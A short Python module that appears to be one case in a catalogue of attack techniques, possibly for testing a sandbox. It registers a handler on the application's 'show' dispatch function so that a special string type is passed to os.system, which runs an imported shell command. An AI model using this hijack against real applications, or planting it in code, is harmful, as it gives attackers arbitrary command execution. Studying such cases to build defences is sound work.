"""A partial is registered with one of the application's functions."""
CATEGORY = "borrowed"
REACH = "run"

from . import payload


def attack():
    import __main__
    import functools
    import os

    class Command(str):
        pass
    __main__.show.register(Command, functools.partial(
        lambda function, value: function(value), os.system))
    return Command(payload.COMMAND)
